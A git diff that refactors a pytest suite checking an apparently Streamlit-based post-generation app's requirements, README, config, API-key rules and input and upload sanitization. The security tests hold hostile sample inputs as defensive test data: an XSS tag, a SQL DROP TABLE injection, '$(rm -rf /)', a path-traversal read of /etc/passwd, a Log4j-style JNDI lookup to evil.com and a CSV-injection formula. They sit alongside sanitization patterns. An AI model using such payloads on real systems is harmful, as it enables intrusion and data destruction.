@@ -10,67 +10,263 @@ This module tests deployment readiness and documentation quality including:
 """
 
 import pytest
+import ast
 import re
 import os
+from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 from unittest.mock import Mock, patch, MagicMock
-import subprocess
-import sys
+
+
+# Top-level project files read by the documentation and configuration checks
+PROJECT_DOC_FILES = (
+    "requirements.txt",
+    "config.py",
+    "README.md",
+    "readme.md",
+    "README.txt",
+    "INSTALL.md",
+)
+
+# Modules checked for docstring coverage
+_CODE_FILES = (
+    "app.py",
+    "services/file_service.py",
+    "services/llm_service.py",
+    "services/post_service.py",
+    "utils/data_exporter.py"
+)
+
+# Input sanitization patterns, compiled once and shared across calls
+_SCRIPT_RE = re.compile(r'<script.*?</script>', re.IGNORECASE | re.DOTALL)
+_STRIP_CHARS = str.maketrans('', '', ';`')
+_BAD_TOKENS_RE = re.compile(
+    r'DROP TABLE|DELETE FROM|INSERT INTO|--|\$\(|&&|\|\||\.\./',
+    re.IGNORECASE
+)
+_TEMPLATE_RE = re.compile(r'\{\{.*?\}\}|\$\{.*?\}')
+
+# Substrings that must appear in requirements.txt / config.py (scanned in order)
+_ESSENTIAL_DEPS = ('streamlit', 'pandas', 'python-docx', 'PyMuPDF', 'openpyxl')
+_REQUIRED_CONFIGS = (
+    'LLM_PROVIDERS',
+    'TARGET_PLATFORMS',
+    'SUPPORTED_TEXT_FORMATS',
+    'SUPPORTED_HISTORY_FORMATS'
+)
+
+# One pass over requirements.txt finds every essential dependency name
+_DEP_RE = re.compile(
+    r'(?m)^\s*(%s)(?=[\s=<>!~]|$)' % '|'.join(map(re.escape, _ESSENTIAL_DEPS)),
+    re.IGNORECASE
+)
+
+# Version pin operators accepted in requirements.txt
+_PIN_RE = re.compile(r'[=<>]=')
+
+# README section markers: "# name" (any header level), "name:" or "**name**"
+_README_SECTIONS = ('description', 'installation', 'usage', 'requirements', 'configuration')
+_SECTION_NAMES = '|'.join(_README_SECTIONS)
+_README_SECTION_RE = re.compile(
+    r'# (%s)|(%s):|\*\*(%s)\*\*' % (_SECTION_NAMES, _SECTION_NAMES, _SECTION_NAMES),
+    re.IGNORECASE
+)
+
+# Environment setup steps as parallel tuples (step name, command)
+_SETUP_STEPS = (
+    'python_version',
+    'virtual_environment',
+    'activation',
+    'dependencies',
+    'application_start'
+)
+_SETUP_COMMANDS = (
+    'python --version',
+    'python -m venv venv',
+    'source venv/bin/activate',  # Unix/Mac
+    'pip install -r requirements.txt',
+    'streamlit run app.py'
+)
+_STEP_ASSERTIONS = {
+    'python_version': (lambda c: "python" in c and "version" in c, "Should check Python version"),
+    'virtual_environment': (lambda c: "venv" in c, "Should create virtual environment"),
+    'dependencies': (lambda c: "pip install" in c and "requirements.txt" in c, "Should install from requirements"),
+    'application_start': (lambda c: "streamlit run" in c and "app.py" in c, "Should run Streamlit app"),
+}
+
+# Platform-specific commands as parallel tuples indexed by platform
+_PLATFORMS = ("Windows", "macOS", "Linux")
+_VENV_ACTIVATION = ("venv\\Scripts\\activate", "source venv/bin/activate", "source venv/bin/activate")
+_PATH_SEPARATORS = ("\\", "/", "/")
+_PYTHON_COMMANDS = ("python", "python3", "python3")
+
+# Expected venv activation form per platform: (predicate, failure message)
+_UNIX_ACTIVATION_CHECK = (lambda c: "/" in c and "source" in c, "Unix-like should use source")
+_PLATFORM_CHECKS = {
+    "Windows": (lambda c: "\\" in c, "Windows should use backslash"),
+    "macOS": _UNIX_ACTIVATION_CHECK,
+    "Linux": _UNIX_ACTIVATION_CHECK,
+}
+
+# API key screening: exact placeholder keys, case-insensitive weak keys and
+# a byte classifier mapping digits to 1 and letters to 2 (everything else 0)
+_HARDCODED_KEYS = frozenset({"test", "demo", "example", "1234567890"})
+_WEAK_KEYS = frozenset({"password", "secret", "key123"})
+_CHAR_CLASS = bytes(1 if chr(i).isdigit() else 2 if chr(i).isalpha() else 0 for i in range(256))
+
+# Dangerous filename fragments: traversal sequences and reserved characters
+_BAD_FN_RE = re.compile(r'[<>:"|?*]|\.\./|\.\\')
+
+# Static allow-lists used for membership checks
+_VALID_PROVIDERS = frozenset({"OpenAI", "Google Gemini", "Anthropic", "Claude"})
+_VALID_PLATFORMS = frozenset({"X", "LinkedIn", "Facebook", "Instagram", "Twitter"})
+_VALID_FORMATS = frozenset({".txt", ".docx", ".pdf", ".md", ".xlsx"})
+_ALLOWED_EXT = frozenset({'.txt', '.docx', '.pdf', '.md', '.xlsx'})
+_ALLOWED_CT = frozenset({
+    'text/plain',
+    'text/markdown',
+    'application/pdf',
+    'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
+    'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'
+})
+
+
+@pytest.fixture(scope="session")
+def project_docs():
+    """Read every project documentation/config file once, keyed by relative path."""
+    # One directory listing each for the root and docs/ instead of a stat per candidate
+    with os.scandir('.') as entries:
+        paths = [entry.name for entry in entries
+                 if entry.name in PROJECT_DOC_FILES and entry.is_file()]
+    if os.path.isdir('docs'):
+        with os.scandir('docs') as entries:
+            paths.extend(f"docs/{entry.name}" for entry in entries
+                         if entry.name.endswith('.md') and entry.is_file())
+    
+    docs = {}
+    for path in sorted(paths):
+        docs[path] = Path(path).read_bytes().decode('utf-8', errors='replace')
+    return docs
+
+
+def _load_module(file_path):
+    """Read and parse one code file, returning None if it is missing or invalid."""
+    try:
+        return file_path, ast.parse(Path(file_path).read_bytes().decode('utf-8', errors='replace'))
+    except (OSError, SyntaxError):
+        # Skip missing files and files with syntax errors
+        return file_path, None
+
+
+@pytest.fixture(scope="session")
+def parsed_modules():
+    """Parse each documented code module once, keyed by relative path."""
+    # File reads release the GIL, so they overlap with parsing on other threads
+    with ThreadPoolExecutor(max_workers=4) as executor:
+        loaded = executor.map(_load_module, _CODE_FILES)
+        return {file_path: tree for file_path, tree in loaded if tree is not None}
+
+
+def _validate_providers(config_value):
+    """Validate the LLM provider list."""
+    if not isinstance(config_value, list) or len(config_value) == 0:
+        return False, "LLM providers must be non-empty list"
+    
+    for provider in config_value:
+        if provider not in _VALID_PROVIDERS:
+            return False, f"Invalid provider: {provider}"
+    
+    return True, "Configuration is valid"
+
+
+def _validate_platforms(config_value):
+    """Validate the target platform list."""
+    if not isinstance(config_value, list) or len(config_value) == 0:
+        return False, "Target platforms must be non-empty list"
+    
+    for platform in config_value:
+        if platform not in _VALID_PLATFORMS:
+            return False, f"Invalid platform: {platform}"
+    
+    return True, "Configuration is valid"
+
+
+def _validate_formats(config_value):
+    """Validate the supported file format list."""
+    if not isinstance(config_value, list):
+        return False, "File formats must be list"
+    
+    for fmt in config_value:
+        if fmt not in _VALID_FORMATS:
+            return False, f"Unsupported format: {fmt}"
+    
+    return True, "Configuration is valid"
+
+
+def _validate_range(config_value):
+    """Validate the post count range."""
+    if not isinstance(config_value, dict):
+        return False, "Post count range must be dict"
+    
+    if config_value.get("min", 0) < 1:
+        return False, "Minimum post count must be >= 1"
+    
+    if config_value.get("max", 0) <= config_value.get("min", 0):
+        return False, "Maximum must be greater than minimum"
+    
+    return True, "Configuration is valid"
+
+
+def _accept_config(config_value):
+    """Accept configuration names that have no dedicated validator."""
+    return True, "Configuration is valid"
+
+
+# Configuration validators dispatched by config name
+_CONFIG_VALIDATORS = {
+    "llm_providers": _validate_providers,
+    "target_platforms": _validate_platforms,
+    "file_formats": _validate_formats,
+    "post_count_range": _validate_range,
+}
 
 
 class TestInstallationGuide:
     """Test comprehensive installation guide."""
     
-    def test_requirements_file_completeness(self):
+    def test_requirements_file_completeness(self, project_docs):
         """Test that requirements.txt is complete and properly formatted."""
-        def validate_requirements_file():
+        def validate_requirements_file(project_docs):
             """Validate requirements.txt file."""
-            requirements_path = Path("requirements.txt")
+            requirements_content = project_docs.get("requirements.txt")
             
-            if not requirements_path.exists():
+            if requirements_content is None:
                 return False, "requirements.txt file missing"
             
-            with open(requirements_path, 'r') as f:
-                requirements_content = f.read()
-            
             # Check for essential dependencies
-            essential_deps = [
-                'streamlit',
-                'pandas',
-                'python-docx',
-                'PyMuPDF',
-                'openpyxl'
-            ]
-            
-            missing_deps = []
-            for dep in essential_deps:
-                if dep not in requirements_content:
-                    missing_deps.append(dep)
+            found_deps = {m.group(1).lower() for m in _DEP_RE.finditer(requirements_content)}
+            missing_deps = [dep for dep in _ESSENTIAL_DEPS if dep.lower() not in found_deps]
             
             if missing_deps:
                 return False, f"Missing dependencies: {missing_deps}"
             
             # Check for version pinning
-            lines = requirements_content.strip().split('\n')
-            unpinned_deps = []
-            
-            for line in lines:
-                line = line.strip()
-                if line and not line.startswith('#'):
-                    if '==' not in line and '>=' not in line and '<=' not in line:
-                        unpinned_deps.append(line)
+            unpinned_deps = [
+                line for line in map(str.strip, requirements_content.splitlines())
+                if line and not line.startswith('#') and not _PIN_RE.search(line)
+            ]
             
             if unpinned_deps:
                 return False, f"Unpinned dependencies: {unpinned_deps}"
             
             return True, "Requirements file is valid"
         
-        is_valid, message = validate_requirements_file()
+        is_valid, message = validate_requirements_file(project_docs)
         assert is_valid, f"Requirements file validation failed: {message}"
     
-    def test_installation_steps_documentation(self):
+    def test_installation_steps_documentation(self, project_docs):
         """Test that installation steps are properly documented."""
-        def check_installation_docs():
+        def check_installation_docs(project_docs):
             """Check for installation documentation."""
             
             # Look for documentation files
@@ -83,7 +279,7 @@ class TestInstallationGuide:
             
             found_docs = []
             for doc_file in doc_files:
-                if Path(doc_file).exists():
+                if doc_file in project_docs:
                     found_docs.append(doc_file)
             
             if not found_docs:
@@ -91,8 +287,7 @@ class TestInstallationGuide:
             
             # Check content of found documentation
             for doc_file in found_docs:
-                with open(doc_file, 'r') as f:
-                    content = f.read().lower()
+                content = project_docs[doc_file].lower()
                 
                 # Check for essential installation steps
                 required_sections = [
@@ -112,7 +307,7 @@ class TestInstallationGuide:
             
             return False, "Installation documentation incomplete"
         
-        has_docs, message = check_installation_docs()
+        has_docs, message = check_installation_docs(project_docs)
         assert has_docs, f"Installation documentation check failed: {message}"
     
     def test_environment_setup_instructions(self):
@@ -120,50 +315,15 @@ class TestInstallationGuide:
         def validate_environment_setup():
             """Validate environment setup instructions."""
             
-            setup_steps = [
-                {
-                    "step": "python_version",
-                    "description": "Python version requirement (3.8+)",
-                    "command": "python --version"
-                },
-                {
-                    "step": "virtual_environment",
-                    "description": "Virtual environment creation",
-                    "command": "python -m venv venv"
-                },
-                {
-                    "step": "activation",
-                    "description": "Virtual environment activation",
-                    "command": "source venv/bin/activate"  # Unix/Mac
-                },
-                {
-                    "step": "dependencies",
-                    "description": "Install dependencies",
-                    "command": "pip install -r requirements.txt"
-                },
-                {
-                    "step": "application_start",
-                    "description": "Start application",
-                    "command": "streamlit run app.py"
-                }
-            ]
-            
             # Validate each setup step
-            for step in setup_steps:
-                # Check if command is valid format
-                command = step["command"]
-                assert isinstance(command, str), f"Command should be string: {step['step']}"
-                assert len(command) > 0, f"Command should not be empty: {step['step']}"
-                
+            assert all(isinstance(command, str) and command for command in _SETUP_COMMANDS), \
+                "Setup commands should be non-empty strings"
+            
+            for step, command in zip(_SETUP_STEPS, _SETUP_COMMANDS):
                 # Basic command validation
-                if step["step"] == "python_version":
-                    assert "python" in command and "version" in command, "Should check Python version"
-                elif step["step"] == "virtual_environment":
-                    assert "venv" in command, "Should create virtual environment"
-                elif step["step"] == "dependencies":
-                    assert "pip install" in command and "requirements.txt" in command, "Should install from requirements"
-                elif step["step"] == "application_start":
-                    assert "streamlit run" in command and "app.py" in command, "Should run Streamlit app"
+                if step in _STEP_ASSERTIONS:
+                    check, message = _STEP_ASSERTIONS[step]
+                    assert check(command), message
             
             return True, "Environment setup steps validated"
         
@@ -175,41 +335,18 @@ class TestInstallationGuide:
         def check_platform_instructions():
             """Check for platform-specific instructions."""
             
-            platforms = ["Windows", "macOS", "Linux"]
-            
-            platform_commands = {
-                "Windows": {
-                    "venv_activation": "venv\\Scripts\\activate",
-                    "path_separator": "\\",
-                    "python_command": "python"
-                },
-                "macOS": {
-                    "venv_activation": "source venv/bin/activate",
-                    "path_separator": "/",
-                    "python_command": "python3"
-                },
-                "Linux": {
-                    "venv_activation": "source venv/bin/activate",
-                    "path_separator": "/",
-                    "python_command": "python3"
-                }
-            }
-            
             # Validate platform-specific commands
-            for platform, commands in platform_commands.items():
+            for platform, activation_cmd, separator, python_cmd in zip(
+                _PLATFORMS, _VENV_ACTIVATION, _PATH_SEPARATORS, _PYTHON_COMMANDS
+            ):
                 # Test virtual environment activation
-                activation_cmd = commands["venv_activation"]
-                if platform == "Windows":
-                    assert "\\" in activation_cmd, f"Windows should use backslash: {activation_cmd}"
-                else:
-                    assert "/" in activation_cmd and "source" in activation_cmd, f"Unix-like should use source: {activation_cmd}"
+                check, message = _PLATFORM_CHECKS[platform]
+                assert check(activation_cmd), f"{message}: {activation_cmd}"
                 
                 # Test path separator usage
-                separator = commands["path_separator"]
                 assert separator in ["\\", "/"], f"Valid path separator: {separator}"
                 
                 # Test Python command
-                python_cmd = commands["python_command"]
                 assert "python" in python_cmd, f"Valid Python command: {python_cmd}"
             
             return True, "Platform-specific instructions validated"
@@ -221,31 +358,18 @@ class TestInstallationGuide:
 class TestConfigurationManagement:
     """Test configuration management and environment variables."""
     
-    def test_configuration_file_structure(self):
+    def test_configuration_file_structure(self, project_docs):
         """Test configuration file structure and validation."""
-        def validate_config_structure():
+        def validate_config_structure(project_docs):
             """Validate configuration file structure."""
             
             # Check for config.py existence and structure
-            config_path = Path("config.py")
-            if not config_path.exists():
+            config_content = project_docs.get("config.py")
+            if config_content is None:
                 return False, "config.py file missing"
             
-            with open(config_path, 'r') as f:
-                config_content = f.read()
-            
             # Check for essential configuration variables
-            required_configs = [
-                'LLM_PROVIDERS',
-                'TARGET_PLATFORMS',
-                'SUPPORTED_TEXT_FORMATS',
-                'SUPPORTED_HISTORY_FORMATS'
-            ]
-            
-            missing_configs = []
-            for config in required_configs:
-                if config not in config_content:
-                    missing_configs.append(config)
+            missing_configs = [config for config in _REQUIRED_CONFIGS if config not in config_content]
             
             if missing_configs:
                 return False, f"Missing configurations: {missing_configs}"
@@ -259,7 +383,7 @@ class TestConfigurationManagement:
             
             return True, "Configuration structure is valid"
         
-        is_valid, message = validate_config_structure()
+        is_valid, message = validate_config_structure(project_docs)
         assert is_valid, f"Configuration validation failed: {message}"
     
     def test_environment_variable_handling(self):
@@ -281,11 +405,18 @@ class TestConfigurationManagement:
                 }
             }
             
-            def validate_env_var(var_name, expected_pattern=None):
+            # Snapshot the environment once and precompute the simulated fallbacks
+            env_snapshot = dict(os.environ)
+            mock_values = {
+                var_name: f"mock_{var_name.lower()}"
+                for var_name in (*env_patterns["api_keys"], *env_patterns["app_config"])
+            }
+            
+            def validate_env_var(env, var_name, expected_pattern=None):
                 """Validate environment variable format."""
                 
                 # Get environment variable (or simulate)
-                env_value = os.environ.get(var_name, f"mock_{var_name.lower()}")
+                env_value = env.get(var_name, mock_values[var_name])
                 
                 if expected_pattern and not env_value.startswith(expected_pattern):
                     return False, f"{var_name} should start with {expected_pattern}"
@@ -299,13 +430,13 @@ class TestConfigurationManagement:
             
             # Test API key patterns
             for var_name, pattern in env_patterns["api_keys"].items():
-                is_valid, message = validate_env_var(var_name, pattern)
+                is_valid, message = validate_env_var(env_snapshot, var_name, pattern)
                 # Note: This test allows mock values for testing purposes
                 assert is_valid or "mock_" in message, f"Environment variable validation: {message}"
             
             # Test app configuration
             for var_name, expected_value in env_patterns["app_config"].items():
-                is_valid, message = validate_env_var(var_name)
+                is_valid, message = validate_env_var(env_snapshot, var_name)
                 assert is_valid, f"App config validation: {message}"
             
             return True
@@ -336,45 +467,7 @@ class TestConfigurationManagement:
             
             def validate_config(config_name, config_value):
                 """Validate configuration value."""
-                
-                if config_name == "llm_providers":
-                    if not isinstance(config_value, list) or len(config_value) == 0:
-                        return False, "LLM providers must be non-empty list"
-                    
-                    valid_providers = ["OpenAI", "Google Gemini", "Anthropic", "Claude"]
-                    for provider in config_value:
-                        if provider not in valid_providers:
-                            return False, f"Invalid provider: {provider}"
-                
-                elif config_name == "target_platforms":
-                    if not isinstance(config_value, list) or len(config_value) == 0:
-                        return False, "Target platforms must be non-empty list"
-                    
-                    valid_platforms = ["X", "LinkedIn", "Facebook", "Instagram", "Twitter"]
-                    for platform in config_value:
-                        if platform not in valid_platforms:
-                            return False, f"Invalid platform: {platform}"
-                
-                elif config_name == "file_formats":
-                    if not isinstance(config_value, list):
-                        return False, "File formats must be list"
-                    
-                    valid_formats = [".txt", ".docx", ".pdf", ".md", ".xlsx"]
-                    for fmt in config_value:
-                        if fmt not in valid_formats:
-                            return False, f"Unsupported format: {fmt}"
-                
-                elif config_name == "post_count_range":
-                    if not isinstance(config_value, dict):
-                        return False, "Post count range must be dict"
-                    
-                    if config_value.get("min", 0) < 1:
-                        return False, "Minimum post count must be >= 1"
-                    
-                    if config_value.get("max", 0) <= config_value.get("min", 0):
-                        return False, "Maximum must be greater than minimum"
-                
-                return True, "Configuration is valid"
+                return _CONFIG_VALIDATORS.get(config_name, _accept_config)(config_value)
             
             # Test valid configurations
             for config_name, config_value in valid_configs.items():
@@ -396,7 +489,14 @@ class TestConfigurationManagement:
 class TestSecurityConsiderations:
     """Test security considerations and best practices."""
     
-    def test_api_key_security(self):
+    @pytest.mark.parametrize("api_key,should_be_valid", [
+        ("sk-1234567890abcdef1234567890abcdef", True),  # Valid
+        ("test", False),  # Too short/weak
+        ("sk-abcdefghijklmnop", False),  # No numbers
+        ("sk-1234567890123456", False),  # No letters
+        ("password", False)  # Weak pattern
+    ])
+    def test_api_key_security(self, api_key, should_be_valid):
         """Test API key security handling."""
         def test_api_key_protection():
             """Test API key protection mechanisms."""
@@ -408,7 +508,7 @@ class TestSecurityConsiderations:
                 security_issues = []
                 
                 # Check for hardcoded keys
-                if api_key in ["test", "demo", "example", "1234567890"]:
+                if api_key in _HARDCODED_KEYS:
                     security_issues.append("Hardcoded/test API key detected")
                 
                 # Check key length
@@ -416,85 +516,67 @@ class TestSecurityConsiderations:
                     security_issues.append("API key too short")
                 
                 # Check for weak patterns
-                if api_key.lower() in ["password", "secret", "key123"]:
+                if api_key.lower() in _WEAK_KEYS:
                     security_issues.append("Weak API key pattern")
                 
-                # Check for proper format
-                if not any(char.isdigit() for char in api_key):
+                # Check for proper format: ASCII keys are classified in one C-level
+                # pass; anything else keeps the str.isdigit/str.isalpha semantics
+                if api_key.isascii():
+                    seen = set(api_key.encode('ascii').translate(_CHAR_CLASS))
+                    has_digit, has_alpha = 1 in seen, 2 in seen
+                else:
+                    has_digit = any(char.isdigit() for char in api_key)
+                    has_alpha = any(char.isalpha() for char in api_key)
+                
+                if not has_digit:
                     security_issues.append("API key should contain numbers")
                 
-                if not any(char.isalpha() for char in api_key):
+                if not has_alpha:
                     security_issues.append("API key should contain letters")
                 
                 return len(security_issues) == 0, security_issues
             
-            # Test various API key scenarios
-            test_keys = [
-                ("sk-1234567890abcdef1234567890abcdef", True),  # Valid
-                ("test", False),  # Too short/weak
-                ("sk-abcdefghijklmnop", False),  # No numbers
-                ("sk-1234567890123456", False),  # No letters
-                ("password", False)  # Weak pattern
-            ]
-            
-            for api_key, should_be_valid in test_keys:
-                is_secure, issues = validate_api_key_security(api_key)
-                if should_be_valid:
-                    assert is_secure, f"Valid key should be secure: {api_key} - Issues: {issues}"
-                else:
-                    assert not is_secure, f"Invalid key should be flagged: {api_key}"
+            # Test the API key scenario
+            is_secure, issues = validate_api_key_security(api_key)
+            if should_be_valid:
+                assert is_secure, f"Valid key should be secure: {api_key} - Issues: {issues}"
+            else:
+                assert not is_secure, f"Invalid key should be flagged: {api_key}"
             
             return True
         
         api_security = test_api_key_protection()
         assert api_security, "API key security should be implemented"
     
-    def test_input_sanitization_security(self):
+    @pytest.mark.parametrize("malicious_input", [
+        "<script>alert('xss')</script>",
+        "'; DROP TABLE users; --",
+        "$(rm -rf /)",
+        "eval('malicious code')",
+        "../../../etc/passwd",
+        "{{7*7}}",  # Template injection
+        "${jndi:ldap://evil.com/x}",  # Log4j style
+        "=SUM(1+1)*cmd|'/C calc'!A0"  # CSV injection
+    ])
+    def test_input_sanitization_security(self, malicious_input):
         """Test input sanitization for security."""
         def test_input_security():
             """Test input sanitization security measures."""
             
-            # Test malicious input patterns
-            malicious_inputs = [
-                "<script>alert('xss')</script>",
-                "'; DROP TABLE users; --",
-                "$(rm -rf /)",
-                "eval('malicious code')",
-                "../../../etc/passwd",
-                "{{7*7}}",  # Template injection
-                "${jndi:ldap://evil.com/x}",  # Log4j style
-                "=SUM(1+1)*cmd|'/C calc'!A0"  # CSV injection
-            ]
-            
             def sanitize_input(user_input):
                 """Sanitize user input for security."""
-                import re
-                
                 if not isinstance(user_input, str):
                     user_input = str(user_input)
                 
-                # Remove or escape dangerous patterns
-                sanitized = user_input
-                
                 # Remove script tags
-                sanitized = re.sub(r'<script.*?</script>', '', sanitized, flags=re.IGNORECASE | re.DOTALL)
-                
-                # Remove SQL injection patterns
-                sql_patterns = ['DROP TABLE', 'DELETE FROM', 'INSERT INTO', '--', ';']
-                for pattern in sql_patterns:
-                    sanitized = sanitized.replace(pattern, '')
+                sanitized = _SCRIPT_RE.sub('', user_input)
                 
-                # Remove command injection patterns
-                cmd_patterns = ['$(', '`', '&&', '||']
-                for pattern in cmd_patterns:
-                    sanitized = sanitized.replace(pattern, '')
-                
-                # Remove path traversal
-                sanitized = sanitized.replace('../', '')
+                # Remove SQL injection, command injection and path traversal tokens;
+                # dropping single characters first stops them splitting a token
+                sanitized = _BAD_TOKENS_RE.sub('', sanitized.translate(_STRIP_CHARS))
                 
                 # Remove template injection patterns
-                sanitized = re.sub(r'{{.*?}}', '', sanitized)
-                sanitized = re.sub(r'\\$\\{.*?\\}', '', sanitized)
+                sanitized = _TEMPLATE_RE.sub('', sanitized)
                 
                 # Handle CSV injection
                 if sanitized.startswith(('=', '+', '-', '@')):
@@ -503,81 +585,83 @@ class TestSecurityConsiderations:
                 return sanitized
             
             # Test sanitization
-            for malicious_input in malicious_inputs:
-                sanitized = sanitize_input(malicious_input)
-                
-                # Check that dangerous patterns are removed/neutralized
-                assert '<script>' not in sanitized.lower(), f"Script tags should be removed: {malicious_input}"
-                assert 'drop table' not in sanitized.lower(), f"SQL injection should be prevented: {malicious_input}"
-                assert '$(' not in sanitized, f"Command injection should be prevented: {malicious_input}"
-                assert '../' not in sanitized, f"Path traversal should be prevented: {malicious_input}"
+            sanitized = sanitize_input(malicious_input)
+            
+            # Check that dangerous patterns are removed/neutralized
+            assert '<script>' not in sanitized.lower(), f"Script tags should be removed: {malicious_input}"
+            assert 'drop table' not in sanitized.lower(), f"SQL injection should be prevented: {malicious_input}"
+            assert '$(' not in sanitized, f"Command injection should be prevented: {malicious_input}"
+            assert '../' not in sanitized, f"Path traversal should be prevented: {malicious_input}"
             
             return True
         
         input_security = test_input_security()
         assert input_security, "Input sanitization security should be implemented"
     
-    def test_file_upload_security(self):
+    @pytest.mark.parametrize("filename,content_type,file_size,should_be_valid", [
+        ("document.txt", "text/plain", 1024 * 1024, True),  # Valid
+        ("malware.exe", "application/x-executable", 1024, False),  # Invalid type
+        ("huge_file.txt", "text/plain", 50 * 1024 * 1024, False),  # Too large
+        ("../../../etc/passwd", "text/plain", 1024, False),  # Path traversal
+        ("normal.pdf", "application/pdf", 2 * 1024 * 1024, True)  # Valid
+    ])
+    def test_file_upload_security(self, filename, content_type, file_size, should_be_valid):
         """Test file upload security measures."""
         def test_file_security():
             """Test file upload security validation."""
             
             # Test file type validation
-            def validate_file_security(filename, content_type, file_size):
-                """Validate file upload security."""
-                
-                security_issues = []
+            def iter_file_security_issues(filename, content_type, file_size):
+                """Yield file upload security issues, cheapest checks first."""
                 
                 # Check file extension
-                allowed_extensions = ['.txt', '.docx', '.pdf', '.md', '.xlsx']
                 file_ext = Path(filename).suffix.lower()
                 
-                if file_ext not in allowed_extensions:
-                    security_issues.append(f"File type not allowed: {file_ext}")
-                
-                # Check content type
-                allowed_content_types = [
-                    'text/plain',
-                    'text/markdown',
-                    'application/pdf',
-                    'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
-                    'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'
-                ]
-                
-                if content_type not in allowed_content_types:
-                    security_issues.append(f"Content type not allowed: {content_type}")
+                if file_ext not in _ALLOWED_EXT:
+                    yield f"File type not allowed: {file_ext}"
                 
                 # Check file size
                 max_size_mb = 10
                 size_mb = file_size / (1024 * 1024)
                 
                 if size_mb > max_size_mb:
-                    security_issues.append(f"File too large: {size_mb:.2f}MB > {max_size_mb}MB")
-                
-                # Check filename for security
-                dangerous_patterns = ['../', '.\\', '<', '>', ':', '"', '|', '?', '*']
-                for pattern in dangerous_patterns:
-                    if pattern in filename:
-                        security_issues.append(f"Dangerous character in filename: {pattern}")
+                    yield f"File too large: {size_mb:.2f}MB > {max_size_mb}MB"
                 
+                # Check content type
+                if content_type not in _ALLOWED_CT:
+                    yield f"Content type not allowed: {content_type}"
+                
+                # Check filename for security; finditer is lazy, so a fast caller
+                # stops after the first match just like a single search()
+                reported = set()
+                for match in _BAD_FN_RE.finditer(filename):
+                    pattern = match.group()
+                    if pattern not in reported:
+                        reported.add(pattern)
+                        yield f"Dangerous character in filename: {pattern}"
+            
+            def validate_file_security(filename, content_type, file_size, fast=False):
+                """Validate file upload security, stopping at the first issue when fast."""
+                issues = iter_file_security_issues(filename, content_type, file_size)
+                
+                if fast:
+                    first_issue = next(issues, None)
+                    return first_issue is None, [first_issue] if first_issue else []
+                
+                security_issues = list(issues)
                 return len(security_issues) == 0, security_issues
             
-            # Test file upload scenarios
-            test_files = [
-                ("document.txt", "text/plain", 1024 * 1024, True),  # Valid
-                ("malware.exe", "application/x-executable", 1024, False),  # Invalid type
-                ("huge_file.txt", "text/plain", 50 * 1024 * 1024, False),  # Too large
-                ("../../../etc/passwd", "text/plain", 1024, False),  # Path traversal
-                ("normal.pdf", "application/pdf", 2 * 1024 * 1024, True)  # Valid
-            ]
+            # Test the file upload scenario on both paths; they must agree, and
+            # the fast path reports the first issue of the full scan
+            is_secure, issues = validate_file_security(filename, content_type, file_size)
+            fast_secure, fast_issues = validate_file_security(filename, content_type, file_size, fast=True)
+            assert fast_secure == is_secure
+            assert fast_issues == issues[:1]
             
-            for filename, content_type, file_size, should_be_valid in test_files:
-                is_secure, issues = validate_file_security(filename, content_type, file_size)
-                
-                if should_be_valid:
-                    assert is_secure, f"Valid file should pass security: {filename} - Issues: {issues}"
-                else:
-                    assert not is_secure, f"Invalid file should fail security: {filename}"
+            if should_be_valid:
+                assert is_secure, f"Valid file should pass security: {filename} - Issues: {issues}"
+            else:
+                assert not is_secure, f"Invalid file should fail security: {filename}"
             
             return True
         
@@ -588,9 +672,9 @@ class TestSecurityConsiderations:
 class TestDocumentationQuality:
     """Test documentation quality and completeness."""
     
-    def test_readme_completeness(self):
+    def test_readme_completeness(self, project_docs):
         """Test README documentation completeness."""
-        def validate_readme():
+        def validate_readme(project_docs):
             """Validate README documentation."""
             
             readme_files = ["README.md", "readme.md", "README.txt"]
@@ -598,100 +682,60 @@ class TestDocumentationQuality:
             
             # Find README file
             for readme_file in readme_files:
-                if Path(readme_file).exists():
-                    with open(readme_file, 'r') as f:
-                        readme_content = f.read()
+                if readme_file in project_docs:
+                    readme_content = project_docs[readme_file]
                     break
             
             if not readme_content:
                 return False, "No README file found"
             
             # Check for essential sections
-            required_sections = [
-                'description',
-                'installation',
-                'usage',
-                'requirements',
-                'configuration'
-            ]
-            
-            content_lower = readme_content.lower()
-            missing_sections = []
-            
-            for section in required_sections:
-                section_patterns = [
-                    f"# {section}",
-                    f"## {section}",
-                    f"### {section}",
-                    f"{section}:",
-                    f"**{section}**"
-                ]
-                
-                if not any(pattern.lower() in content_lower for pattern in section_patterns):
-                    missing_sections.append(section)
+            found_sections = {
+                next(group for group in m.groups() if group).lower()
+                for m in _README_SECTION_RE.finditer(readme_content)
+            }
+            missing_sections = [section for section in _README_SECTIONS if section not in found_sections]
             
             if missing_sections:
                 return False, f"Missing sections: {missing_sections}"
             
-            # Check for code examples
-            if '```' not in readme_content and '`' not in readme_content:
+            # Check for code examples (a backtick covers both inline code and fences)
+            if '`' not in readme_content:
                 return False, "No code examples found"
             
-            # Check for proper formatting
-            if not any(header in readme_content for header in ['#', '##', '###']):
+            # Check for proper formatting ('#' is a prefix of every header level)
+            if '#' not in readme_content:
                 return False, "No proper markdown headers found"
             
             return True, "README is complete and well-formatted"
         
-        is_complete, message = validate_readme()
+        is_complete, message = validate_readme(project_docs)
         assert is_complete, f"README validation failed: {message}"
     
-    def test_code_documentation_coverage(self):
+    def test_code_documentation_coverage(self, parsed_modules):
         """Test code documentation coverage."""
-        def check_documentation_coverage():
+        def check_documentation_coverage(parsed_modules):
             """Check documentation coverage across codebase."""
             
-            # Files to check for documentation
-            code_files = [
-                "app.py",
-                "services/file_service.py",
-                "services/llm_service.py", 
-                "services/post_service.py",
-                "utils/data_exporter.py"
-            ]
-            
             documentation_metrics = {}
             
-            for file_path in code_files:
-                if not Path(file_path).exists():
-                    continue
+            for file_path, tree in parsed_modules.items():
+                # Count functions
+                functions = [node for node in ast.walk(tree) if node.__class__ is ast.FunctionDef]
                 
-                with open(file_path, 'r') as f:
-                    content = f.read()
+                documented_functions = 0
+                for func in functions:
+                    if ast.get_docstring(func):
+                        documented_functions += 1
                 
-                # Count functions
-                import ast
-                try:
-                    tree = ast.parse(content)
-                    functions = [node for node in ast.walk(tree) if isinstance(node, ast.FunctionDef)]
-                    
-                    documented_functions = 0
-                    for func in functions:
-                        if ast.get_docstring(func):
-                            documented_functions += 1
-                    
-                    total_functions = len(functions)
